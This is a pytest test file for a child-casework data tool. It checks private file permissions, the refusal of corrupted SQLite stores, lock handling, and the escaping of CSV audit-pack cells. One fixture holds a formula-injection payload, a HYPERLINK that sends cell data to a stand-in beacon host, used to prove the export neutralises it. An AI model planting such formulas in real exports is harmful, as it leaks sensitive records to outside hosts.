"""Files about children are 0600; a damaged SQLite store is refused; packs hold no formula."""

from __future__ import annotations

import csv
import json
import os
import stat
from datetime import UTC, datetime
from pathlib import Path

import pytest

from casejourney.cli import main
from domain.family import Family
from store.database import Database
from store.family_store import FamilyStore
from store.sqlite_health import MalformedDatabase, integrity_problems, sqlite_problem
from tests.support.events import ev, raw
from tests.support.journeys import rich_family

THEN = datetime(2024, 5, 20, 9, tzinfo=UTC)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def loose_umask() -> object:
    """The umask many servers run with: files would be world-readable by default."""
    old = os.umask(0o022)
    yield
    os.umask(old)


def test_store_files_rejects_and_packs_are_private(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, loose_umask: object
) -> None:
    db = tmp_path / "store.db"
    monkeypatch.setenv("CASEJOURNEY_DATABASE_URL", f"sqlite:///{db}")
    source = tmp_path / "in.jsonl"
    good = raw("ReferralReceived", "2024-05-01", referral_id="R1", source="2A")
    source.write_text(json.dumps(good) + "\n" + "{not json\n", encoding="utf-8")
    assert main(["ingest", str(source)]) == 1
    assert main(["project"]) == 0
    rejects = tmp_path / "in.jsonl.rejects.jsonl"
    assert rejects.exists()
    out = tmp_path / "pack"
    assert main(["audit-pack", "F1", "--as-at", "2024-06-01", "--out", str(out)]) == 0
    written = [db, rejects, *out.iterdir()]
    written += [p for p in (Path(f"{db}-wal"), Path(f"{db}-shm")) if p.exists()]
    assert {p.name: oct(mode(p)) for p in written} == {p.name: "0o600" for p in written}
    assert mode(out) == 0o700


def test_an_existing_world_readable_store_is_tightened(tmp_path: Path) -> None:
    db = tmp_path / "old.db"
    Database(f"sqlite:///{db}").close()
    db.chmod(0o644)
    with FamilyStore(f"sqlite:///{db}"):
        pass
    assert mode(db) == 0o600


def test_audit_pack_cells_never_open_as_formulas(
    sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile = ev(
        "RecordRetracted",
        "2024-06-01",
        family_id="F1",
        child_id=None,
        event_id="x1",
        target_event_id="e11",
        reason='=HYPERLINK("http://beacon.example/?"&A1,"open")',
    )
    with FamilyStore(sqlite_url) as store:
        family = Family("F1")
        for event in [*rich_family(), hostile]:
            assert family.record(event, now=THEN)
        store.app.save(family)
    monkeypatch.setenv("CASEJOURNEY_DATABASE_URL", sqlite_url)
    out = tmp_path / "pack"
    assert main(["audit-pack", "F1", "--as-at", "2024-06-02", "--out", str(out)]) == 0
    for path in out.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                assert not [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")], path
    with (out / "chronology.csv").open(newline="", encoding="utf-8") as handle:
        reasons = [r["reason"] for r in csv.DictReader(handle) if r["event_id"] == "x1"]
    assert reasons == ['\'=HYPERLINK("http://beacon.example/?"&A1,"open")']


def damaged(tmp_path: Path, how: str) -> Path:
    db = tmp_path / f"{how}.db"
    with FamilyStore(f"sqlite:///{db}") as store:
        family = Family("F1")
        for event in rich_family():
            assert family.record(event, now=THEN)
        store.app.save(family)
    with Database(f"sqlite:///{db}") as conn:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        conn.execute("PRAGMA journal_mode=DELETE")
    data = bytearray(db.read_bytes())
    if how == "header":
        data[:16] = b"not a database!!"
    elif how == "truncated":
        data = data[: len(data) // 2]
    elif how == "page":
        page = int.from_bytes(data[16:18], "big")
        data[page : page + 64] = b"\xff" * 64  # the schema's second page, mangled
    db.write_bytes(bytes(data))
    return db


@pytest.mark.parametrize("how", ["header", "truncated"])
def test_a_damaged_sqlite_file_is_refused_on_open(tmp_path: Path, how: str) -> None:
    db = damaged(tmp_path, how)
    assert sqlite_problem(db) is not None
    with pytest.raises(MalformedDatabase, match="refused for writing"):
        Database(f"sqlite:///{db}")
    with pytest.raises(MalformedDatabase):
        FamilyStore(f"sqlite:///{db}")


def test_a_mangled_page_is_found_by_the_full_check(tmp_path: Path) -> None:
    db = damaged(tmp_path, "page")
    assert sqlite_problem(db) is not None or integrity_problems(db)


def test_a_sound_file_passes_both_checks(tmp_path: Path) -> None:
    db = tmp_path / "sound.db"
    with FamilyStore(f"sqlite:///{db}") as store:
        family = Family("F1")
        for event in rich_family():
            assert family.record(event, now=THEN)
        store.app.save(family)
    assert sqlite_problem(db) is None and integrity_problems(db) == []


def test_opening_checks_never_drop_this_process_s_sqlite_locks(tmp_path: Path) -> None:
    """Closing any descriptor of a SQLite file drops the POSIX locks the process holds
    on it; the open checks must read through SQLite and chmod by name, so a reader's
    lock here survives another open in the same process."""
    import subprocess
    import sys

    db = tmp_path / "locks.db"
    with Database(f"sqlite:///{db}") as first:
        first.execute("CREATE TABLE t (x INTEGER)")
        first.execute("INSERT INTO t VALUES (1)")
        first.execute("BEGIN IMMEDIATE")  # this process holds the write lock
        with Database(f"sqlite:///{db}"):  # the open checks run again, same process
            pass
        # Another process (POSIX locks are per process) must still find the lock held.
        probe = (
            "import sqlite3, sys\n"
            "c = sqlite3.connect(sys.argv[1], timeout=0, isolation_level=None)\n"
            "try:\n    c.execute('BEGIN IMMEDIATE')\nexcept sqlite3.OperationalError:\n"
            "    sys.exit(3)\n"
        )
        other = subprocess.run([sys.executable, "-c", probe, str(db)], check=False)
        first.execute("ROLLBACK")
    assert other.returncode == 3, "another process could take the write lock"
